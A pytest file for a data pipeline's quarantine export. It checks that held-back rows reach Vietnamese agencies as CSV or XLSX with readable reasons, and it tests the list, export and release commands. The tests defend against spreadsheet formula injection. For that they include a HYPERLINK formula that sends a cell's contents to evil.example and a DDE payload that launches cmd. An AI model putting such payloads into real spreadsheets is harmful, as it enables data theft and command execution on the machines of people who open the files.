"""What an agency gets: its own names and codes, reasons it can read, and nothing its spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner

from dti.cli.app import app
from dti.errors import ConfigError
from dti.feeds import load_contract
from dti.gate.suite import load_suite
from dti.quarantine import HeldRow, write_export
from dti.quarantine.columns import agency_columns
from dti.quarantine.words import Words
from dti.settings import Settings, get_settings
from dti.sources.spec import load_source
from tests.builders import dropping
from tests.builders.dropping import DOSSIERS, TEAMS, night, team

NIGHT = date(2026, 6, 30)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@pytest.fixture
def described(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """Settings whose sources are those of ``dropping``, without a database."""
    dropping.describe(settings, tmp_path / "sources")
    monkeypatch.setenv("DTI_SOURCES", str(tmp_path / "sources"))
    get_settings.cache_clear()
    return get_settings()


def held(**changes: Any) -> HeldRow:
    record = {"unit": "Đắc Lắc Mới", "commune_code": "24003", "commune_name": FORMULA, "has_team": "true",
              "villages_total": "10", "villages_with_team": "12", "source_row": "sheet 1, row 5"}  # fmt: skip
    values: dict[str, Any] = {
        "night": NIGHT, "feed": "community_teams", "source_id": TEAMS, "agency": "Sở thử nghiệm", "batch_id": "b1",
        "row_number": 3, "rows_count": 1, "source_row": "sheet 1, row 5", "key_text": "", "rule": "unit",
        "rules": ["unit", "villages_with_team_within_total", "type:population"], "severity": "warning",
        "reason": "told in English", "record": record, "status": "held", "status_batch_id": None,
    }  # fmt: skip
    return HeldRow(**(values | changes))


def as_csv(rows: list[HeldRow], settings: Settings) -> tuple[dict[str, str], list[dict[str, str]]]:
    """Head and table of the CSV."""
    text = io.StringIO()
    write_export(rows, text, settings=settings)
    lines = list(csv.reader(io.StringIO(text.getvalue())))
    blank = lines.index([])
    return dict(line for line in lines[:blank]), [
        dict(zip(lines[blank + 1], row, strict=True)) for row in lines[blank + 2 :]
    ]


def test_an_agency_reads_its_own_names_and_codes_and_why(described: Settings) -> None:
    head, (line,) = as_csv([held()], described)
    assert (head["Cơ quan cung cấp"], head["Đêm đọc dữ liệu"], head["Số bản ghi chưa nạp"]) == (
        "Sở thử nghiệm",
        "30/06/2026",
        "1",
    )
    assert line["Vị trí trong dữ liệu gửi"] == "sheet 1, row 5"
    assert (line["Tỉnh"], line["Mã xã"], line["Có Tổ"], line["Số thôn có Tổ"]) == ("Đắc Lắc Mới", "24003", "Có", "12")
    assert line["Lý do chưa nạp"] == (
        "Không nhận ra đơn vị hành chính, hoặc đơn vị không tồn tại vào ngày của bản ghi; "
        "Số thôn, buôn, tổ dân phố có Tổ lớn hơn tổng số; "
        "Giá trị không đọc được: Dân số phải là số nguyên"
    )
    assert line["Tên xã"] == f"'{FORMULA}"


def test_no_cell_of_a_workbook_is_run(described: Settings, tmp_path: Path) -> None:
    out = tmp_path / "gui-lai.xlsx"
    hostile = held(agency=FORMULA, source_row="@SUM(1)", rules=["no_longer_a_rule"], reason="+cmd|' /C calc'!A0")
    write_export([held(), hostile], out, settings=described)
    cells = [cell for row in openpyxl.load_workbook(out).active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    shown = [cell.value for cell in cells]
    assert {FORMULA, "@SUM(1)", "+cmd|' /C calc'!A0"} <= set(shown)
    marked = {cell.value for cell in cells if cell.fill.fgColor.rgb == "FFFFC7CE"}
    assert marked == {"Đắc Lắc Mới", "10", "12"}


def test_a_stopped_batch_is_told_as_one_line(described: Settings) -> None:
    rules = ["quarantine_share", "retyped:population"]
    stopped = held(row_number=-1, rows_count=40, rules=rules, severity="critical", record={}, source_row="",
                   failed_counts={"villages_with_team_within_total": 9})  # fmt: skip
    head, (line,) = as_csv([stopped], described)
    assert head["Số bản ghi chưa nạp"] == "40"
    assert head["Số thôn, buôn, tổ dân phố có Tổ lớn hơn tổng số"] == "9"
    assert line["Lý do chưa nạp"].endswith("; 9 bản ghi: Số thôn, buôn, tổ dân phố có Tổ lớn hơn tổng số")
    assert (line["Số thứ tự trong lô"], line["Mã xã"]) == ("cả lô", "")
    assert "Quá 20 % số bản ghi của lô có lỗi" in line["Lý do chưa nạp"]


def test_a_file_of_another_kind_or_nothing_to_write_is_refused(described: Settings, tmp_path: Path) -> None:
    for rows, name in (([held()], "x.ods"), ([], "x.csv"), ([held()], "no/such/folder/x.xlsx")):
        with pytest.raises(ConfigError):
            write_export(rows, tmp_path / name, settings=described)


def test_computed_and_personal_fields_have_no_name_at_the_agency(settings: Settings) -> None:
    contract, source = load_contract("online_services"), load_source("dvc-dak-lak")
    names = {c.name: c.header for c in agency_columns(contract, source, Words(contract, settings))}
    assert names["dossier_id"] == "MaHoSo"
    assert names["opened_at"] == "Thời điểm mở hồ sơ"  # computed from two fields
    assert names["fee_vnd"] == "Phí, lệ phí"
    assert "applicant_ref" not in names
    assert "unit" not in names  # the same for the whole source


def test_every_reason_of_every_feed_is_vietnamese(settings: Settings) -> None:
    marks = set("ăâđêôơưàáảãạèéẻẽẹìíỉĩịòóỏõọùúủũụỳýỷỹỵấầẩẫậắằẳẵặếềểễệốồổỗộớờởỡợứừửữự")
    for path in sorted(settings.include_dir.glob("feeds/*.yml")):
        contract = load_contract(path.stem)
        words = Words(contract, settings)
        built_in = [f"{kind}:{name}" for name in contract.columns for kind in ("type", "required", "retyped")]
        suite = [each.rule for each in load_suite(path.stem, settings).expectations]
        for rule in ["unit", "quarantine_share", *built_in, *suite]:
            assert marks & set(words.reason(rule, "told in English").lower()), (path.stem, rule)


def test_the_commands_list_export_and_release(agencies: Settings, tmp_path: Path) -> None:
    def dti(*words: str, fails: bool = False) -> str:
        result = CliRunner().invoke(app, ["quarantine", *words])
        assert bool(result.exit_code) == fails, result.output
        return result.output

    assert "nothing is held back" in dti("list")
    batch = night(agencies, TEAMS, NIGHT, [team(n, villages_with_team=12 if n > 8 else 5) for n in range(10)])
    (row,) = json.loads(
        dti("list", "--json", "--source", TEAMS, "--since", "2026-06-30", "--rule", "villages_with_team_within_total")
    )
    assert (row["batch_id"], row["row_number"], row["status"]) == (batch, 9, "held")
    assert row["record"]["commune_code"] == "24009"
    assert json.loads(dti("list", "--json", "--source", DOSSIERS)) == []
    assert batch in dti("list", "--feed", "community_teams")
    out = tmp_path / "gui-lai.csv"
    dti("export", TEAMS, "--out", str(out))
    assert out.read_text("utf-8-sig").splitlines()[-1].startswith(f"30/06/2026,{batch},9,")
    assert "is empty" in dti("release", batch, "--by", "", "--reason", "x", fails=True)
    done = json.loads(dti("release", batch, "--rows", "9", "--by", "Trần Thị Bình", "--reason", "12/CV", "--json"))
    assert (done["rows_loaded"], done["waived_rules"]) == (1, ["villages_with_team_within_total"])
    assert json.loads(dti("list", "--json")) == []
    assert "released" in dti("list", "--all")
